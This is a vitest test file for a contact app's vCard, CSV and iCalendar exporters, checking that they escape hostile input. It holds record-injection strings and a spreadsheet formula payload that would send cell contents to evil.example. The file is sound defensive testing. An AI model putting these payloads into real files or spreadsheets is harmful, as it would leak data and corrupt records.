import ICAL from 'ical.js'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { planImport, readImport, writeCalendar, writePeopleCsv, writeVCards } from '../../../shared/exchange'
import type { FollowUp, NetworkEvent, Person } from '../../../shared/domain'
import { personWith } from '../../support/journalBuilder'

const now = new Date('2026-11-29T12:00:00Z')
const at = now.toISOString()
const HOSTILE = 'a note\nEND:VCARD\nBEGIN:VCARD\nFN:Injected\nEND:VCALENDAR\nBEGIN:VTODO; with, commas; semicolons \\ and \\; backslashes'
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

const person = (id: string, over: Partial<Person>): Person => personWith({ id, name: id, ...over }, at)
const people: Person[] = [
  person('3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f', {
    name: 'José Núñez',
    company: 'Acme, Inc.; Sales',
    role: 'Head of Sales',
    emails: ['jose@acme.example', 'jose@home.example'],
    phones: ['+1 555 010 2030'],
    links: [
      { label: 'LinkedIn', url: 'https://www.linkedin.com/in/jose-nunez' },
      { label: 'Blog; "mine", new', url: 'https://jose.example/a,b;c' },
    ],
    tags: ['Leads group', 'golf, tennis', 'a;b'],
    howWeMet: { date: '2023-01-15' },
    notes: [
      { id: 'n1', text: HOSTILE, private: false, createdAt: at },
      { id: 'n2', text: 'secret', private: true, createdAt: at },
    ],
  }),
  person('sample-00002', {
    name: '李小龙',
    company: '北京科技有限公司',
    howWeMet: { introducedById: '3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f', date: '2024-02-29' },
  }),
  person('sample-00003', { name: FORMULA, role: '+1 line\nbreak', howWeMet: { introducedByName: 'Karin Berg, via email' } }),
]
const comparable = (p: Person) => ({
  id: p.id,
  name: p.name,
  company: p.company,
  role: p.role,
  emails: p.emails,
  phones: p.phones,
  links: p.links,
  tags: p.tags,
  howWeMet: p.howWeMet,
  notes: p.notes.filter((n) => !n.private).map((n) => n.text),
})
const cards = (text: string) => {
  const parsed = ICAL.parse(text) as unknown[]
  return (Array.isArray(parsed[0]) ? parsed : [parsed]).map((jcard) => new ICAL.Component(jcard as unknown[]))
}

describe('vCard export', () => {
  it.each(['4.0', '3.0'] as const)('%s re-parses with ical.js into exactly the original strings, hostile ones included', (version) => {
    const text = writeVCards(people, version)
    const [jose, li, formula] = cards(text)
    expect(cards(text)).toHaveLength(3)
    expect(jose!.getFirstPropertyValue('version')).toBe(version)
    expect(jose!.getFirstPropertyValue('fn')).toBe('José Núñez')
    expect(jose!.getFirstPropertyValue('org')).toBe('Acme, Inc.; Sales')
    expect(jose!.getAllProperties('note').map((p) => p.getFirstValue())).toEqual([HOSTILE])
    expect(jose!.getFirstProperty('categories')!.getValues()).toEqual(['Leads group', 'golf, tennis', 'a;b'])
    expect(li!.getFirstPropertyValue('fn')).toBe('李小龙')
    expect(formula!.getFirstPropertyValue('fn')).toBe(FORMULA)
    expect(formula!.getFirstPropertyValue('title')).toBe('+1 line\nbreak')
    // Every line is a property of one of the three cards: the note added none.
    expect(text.match(/^BEGIN:VCARD\r$/gm)).toHaveLength(3)
    expect(text).not.toMatch(/^FN:Injected/m)
  })

  it('4.0 writes the introducer as RELATED;TYPE=met (a URI, or text for a name only)', () => {
    const text = writeVCards(people, '4.0')
    expect(text).toContain('RELATED;TYPE=met:urn:uuid:3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f')
    const related = cards(text)[2]!.getFirstProperty('related')!
    expect(related.getFirstValue()).toBe('Karin Berg, via email')
    expect(related.getParameter('type')).toBe('met')
  })

  it('leaves private notes out', () => {
    expect(writeVCards(people, '4.0')).not.toContain('secret')
  })

  it.each(['4.0', '3.0'] as const)('round trip: export %s, import into an empty journal, the same people', (version) => {
    const read = readImport('kith.vcf', writeVCards(people, version))
    expect(read.errors).toEqual([])
    const plan = planImport([], read, { now, newId: () => crypto.randomUUID() })
    const expected = people.map(comparable)
    // 3.0 has no RELATED: the introducer comes back by name.
    if (version === '3.0') expected[1]!.howWeMet = { date: '2024-02-29', introducedByName: 'José Núñez' } as Person['howWeMet']
    expect(plan.people.map(comparable)).toEqual(expected)
    expect(planImport(plan.people, read, { now, newId: () => 'x' }).created).toBe(0)
  })
})

describe('CSV export', () => {
  const parse = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data

  it('neutralises cells a spreadsheet would run as formulas, including ones with a line break', () => {
    const evil = person('p9', {
      name: FORMULA,
      company: '+SUM(A1)',
      role: '-2+3',
      industry: '@cmd',
      tags: ['\tTAB'],
      notes: [{ id: 'n', text: '=1+1\nsecond line', private: false, createdAt: at }],
    })
    const [header, row] = parse(writePeopleCsv([evil], { people: [evil], events: [] }))
    expect(header![0]).toBe('Name')
    expect(row!.slice(0, 4)).toEqual([`'${FORMULA}`, "'+SUM(A1)", "'-2+3", "'@cmd"])
    expect(row![7]).toBe("'\tTAB")
    expect(row![11]).toBe("'=1+1\nsecond line")
  })

  it('keeps commas, quotes, line breaks and non-ASCII text intact in one cell each', () => {
    const rows = parse(writePeopleCsv(people, { people, events: [] }))
    expect(rows).toHaveLength(4)
    expect(rows[1]!.slice(0, 3)).toEqual(['José Núñez', 'Acme, Inc.; Sales', 'Head of Sales'])
    expect(rows[1]![6]).toBe('LinkedIn: https://www.linkedin.com/in/jose-nunez; Blog; "mine", new: https://jose.example/a,b;c')
    expect(rows[1]![11]).toBe(HOSTILE)
    expect(rows[2]![10]).toBe('José Núñez')
    expect(rows[3]![10]).toBe('Karin Berg, via email')
  })
})

describe('iCalendar export', () => {
  const event: NetworkEvent = {
    id: 'ev1',
    createdAt: at,
    updatedAt: at,
    title: 'Mixer; drinks, talk\nEND:VEVENT',
    kind: 'chamber-mixer',
    startsAt: '2026-12-03T17:00:00.000Z',
    endsAt: '2026-12-03T19:00:00.000Z',
    venue: 'Hôtel Riverside, ballroom',
    expectedAttendeeIds: [],
    goals: 'Meet 2',
    notes: HOSTILE,
  }
  const followUps: FollowUp[] = [
    {
      id: 'f1',
      createdAt: at,
      updatedAt: at,
      dueAt: '2026-12-01T09:00:00.000Z',
      personId: 'sample-00002',
      note: 'Send the deck; ask, about Q1',
      status: 'pending',
    },
    { id: 'f2', createdAt: at, updatedAt: at, dueAt: '2026-11-01T09:00:00.000Z', note: 'Old', status: 'done' },
  ]
  const text = writeCalendar({ events: [event], followUps, people }, now)
  const calendar = new ICAL.Component(ICAL.parse(text) as unknown[])

  it('writes events as VEVENT and re-parses to the original strings', () => {
    const [vevent, ...others] = calendar.getAllSubcomponents('vevent')
    expect(others).toEqual([])
    expect(vevent!.getFirstPropertyValue('summary')).toBe(event.title)
    expect(vevent!.getFirstPropertyValue('location')).toBe(event.venue)
    expect(vevent!.getFirstPropertyValue('description')).toBe(`Goals: Meet 2\n\n${HOSTILE}`)
    expect(String(vevent!.getFirstPropertyValue('dtstart'))).toBe('2026-12-03T17:00:00Z')
    expect(String(vevent!.getFirstPropertyValue('dtend'))).toBe('2026-12-03T19:00:00Z')
    expect(text).toContain('SUMMARY:Mixer\\; drinks\\, talk\\nEND:VEVENT')
  })

  it('writes follow-ups as VTODO with DUE, a status, and an alarm while pending', () => {
    const [pending, done] = calendar.getAllSubcomponents('vtodo')
    expect(pending!.getFirstPropertyValue('summary')).toBe('Follow up with 李小龙: Send the deck; ask, about Q1')
    expect(String(pending!.getFirstPropertyValue('due'))).toBe('2026-12-01T09:00:00Z')
    expect(pending!.getFirstPropertyValue('status')).toBe('NEEDS-ACTION')
    const alarm = pending!.getFirstSubcomponent('valarm')!
    expect(alarm.getFirstPropertyValue('action')).toBe('DISPLAY')
    expect(String(alarm.getFirstPropertyValue('trigger'))).toBe('PT0S')
    expect(done!.getFirstPropertyValue('status')).toBe('COMPLETED')
    expect(done!.getFirstSubcomponent('valarm')).toBeNull()
  })

  it('has the properties RFC 5545 requires', () => {
    expect(calendar.getFirstPropertyValue('version')).toBe('2.0')
    expect(calendar.getFirstPropertyValue('prodid')).toBeTruthy()
    for (const item of [...calendar.getAllSubcomponents('vevent'), ...calendar.getAllSubcomponents('vtodo')]) {
      expect(item.getFirstPropertyValue('uid')).toBeTruthy()
      expect(item.getFirstPropertyValue('dtstamp')).toBeTruthy()
    }
  })

  it('turns a carriage return into a line break, because neither format can carry one', () => {
    const out = writeVCards([person('p1', { name: 'A', notes: [{ id: 'n', text: 'one\r\ntwo\rthree', private: false, createdAt: at }] })], '4.0')
    expect(out.replace(/\r\n/g, '')).not.toContain('\r')
    expect(cards(out)[0]!.getFirstPropertyValue('note')).toBe('one\ntwo\nthree')
  })
})
